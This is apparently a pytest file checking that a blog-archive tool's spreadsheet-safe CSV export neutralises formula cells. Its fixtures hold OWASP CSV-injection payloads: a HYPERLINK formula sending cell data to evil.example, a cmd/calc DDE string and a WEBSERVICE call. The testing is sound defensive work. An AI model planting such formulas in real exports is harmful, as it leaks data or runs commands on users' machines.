"""Exports a spreadsheet opens without running anything: the spreadsheet-safe CSV,
the XLSX workbook; the plain CSV stays exactly what the archive holds.

The archive is made the way a user makes one: a WordPress export file (WXR) whose
post titles and comments start with every formula sign is imported with the real
command. Importing trims leading whitespace, so the tab, carriage-return and
spaced cases are written into the archive file directly, as another tool might.
"""

from __future__ import annotations

import csv
import json
import sqlite3

import pytest

from conftest import run_cli
from scraper.sample.wordpress import make_wp_blog, wxr
from scraper.spreadsheet import neutralise

# The OWASP CSV-injection cases: every sign that makes a cell a formula.
TITLES = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for the report")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]
COMMENTS = ["=1+1", "+33 take that", "-- the editor", "@WEBSERVICE(\"http://x.example/\")"]
RAW_COMMENTS = ["\t=1+2", "\r=1+3", "  =1+4", "\n@SUM(4,5)"]  # leading whitespace kept
HARMLESS = ["Trains & harbours", "a=b", "3 - 2", "", "café"]


@pytest.fixture(scope="module")
def archive(tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    blog = make_wp_blog(n_posts=12)
    posts = [p for p in blog.sorted_posts() if p.comments]
    for post, title, comment in zip(posts, TITLES, COMMENTS, strict=False):
        post.title = title
        post.comments[0].body = comment
    export_file = folder / "blog.xml"
    export_file.write_text(wxr(blog, "http://quay.example"), "utf-8")
    db = folder / "archive.db"
    run_cli("import", str(export_file), "--db", str(db), check=True)
    conn = sqlite3.connect(db)
    post_id = conn.execute("select id from posts order by id limit 1").fetchone()[0]
    for i, text in enumerate(RAW_COMMENTS):
        conn.execute("insert into comments (id, post_id, position, author, body_text) "
                     "values (?, ?, ?, 'Spam', ?)", [f"raw{i}", post_id, 100 + i, text])
    conn.commit()
    titles = {r[0] for r in conn.execute("select title from posts")}
    assert set(TITLES) <= titles  # the import kept them as they were
    conn.close()
    return db


def read_csv(path, encoding="utf-8"):
    with open(path, encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


def test_neutralise_rule():
    for value in TITLES + COMMENTS + RAW_COMMENTS:
        assert neutralise(value) == "'" + value
    for value in HARMLESS:
        assert neutralise(value) == value
    assert neutralise(-5) == -5 and neutralise(None) is None and neutralise(2.5) == 2.5


def test_plain_csv_keeps_every_cell_exactly(archive, tmp_path):
    out = tmp_path / "plain"
    run_cli("export", str(archive), "--format", "csv", "--out", str(out), check=True)
    assert not (out / "posts.csv").read_bytes().startswith(b"\xef\xbb\xbf")
    titles = {r["title"] for r in read_csv(out / "posts.csv")}
    assert set(TITLES) <= titles
    bodies = {r["body_text"] for r in read_csv(out / "comments.csv")}
    assert set(COMMENTS + RAW_COMMENTS) <= bodies
    assert "spreadsheet_safe" not in json.loads((out / "manifest.json").read_text())


def test_spreadsheet_safe_csv_neutralises_formulas(archive, tmp_path):
    out = tmp_path / "safe"
    result = run_cli("export", str(archive), "--format", "csv", "--spreadsheet-safe",
                     "--out", str(out), check=True)
    assert "spreadsheet-safe" in result.stdout
    raw = (out / "posts.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 only with the mark
    posts = read_csv(out / "posts.csv", "utf-8-sig")
    titles = {r["title"] for r in posts}
    assert {"'" + t for t in TITLES} <= titles
    assert not set(TITLES) & titles
    comments = {r["body_text"] for r in read_csv(out / "comments.csv", "utf-8-sig")}
    assert {"'" + c for c in COMMENTS + RAW_COMMENTS} <= comments
    # Everything else is untouched: the same cells as the plain export.
    plain = tmp_path / "plain"
    run_cli("export", str(archive), "--format", "csv", "--out", str(plain), check=True)
    for before, after in zip(read_csv(plain / "posts.csv"), posts):
        assert after == {k: neutralise(v) for k, v in before.items()}
    manifest = json.loads((out / "manifest.json").read_text())
    assert "apostrophe" in manifest["spreadsheet_safe"]
    counted = {t["name"]: t["cells_neutralised"] for t in manifest["tables"]}
    assert counted["posts"] >= len(TITLES)
    # comments: body_text and body_html of imported ones start with "<p>", so only text
    assert counted["comments"] == len(COMMENTS) + len(RAW_COMMENTS)


def test_spreadsheet_safe_is_refused_where_it_means_nothing(archive, tmp_path):
    result = run_cli("export", str(archive), "--format", "jsonl", "--spreadsheet-safe",
                     "--out", str(tmp_path / "x"))
    assert result.returncode == 2 and "--spreadsheet-safe" in result.stderr
    assert result.stderr.strip().splitlines()[-1].startswith("Error: --spreadsheet-safe")
